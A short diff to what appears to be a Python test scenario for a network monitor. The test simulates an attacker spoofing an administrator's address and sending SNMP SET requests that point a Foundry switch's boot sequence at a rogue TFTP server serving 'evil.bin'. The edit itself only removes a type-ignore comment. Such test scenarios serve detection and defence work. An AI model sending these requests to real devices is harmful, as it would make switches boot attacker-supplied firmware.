@@ -44,7 +44,7 @@ def bw04_boot_sequence_in_parts(wire: Wire) -> None:
     """A switch's boot sequence is pointed at a TFTP server over several SETs, from an admin's spoofed address."""
     manager = snmp.Manager(wire, ADMIN, "10.0.1.14")
     for columns in ({4: "evil.bin"}, {3: IPv4Address(ROGUE)}, {2: 3}, {5: 4}):
-        manager.set(*snmp.row(FOUNDRY_BOOT, 1, columns), answered=False)  # type: ignore[arg-type]
+        manager.set(*snmp.row(FOUNDRY_BOOT, 1, columns), answered=False)
         wire.wait(2)
 
 
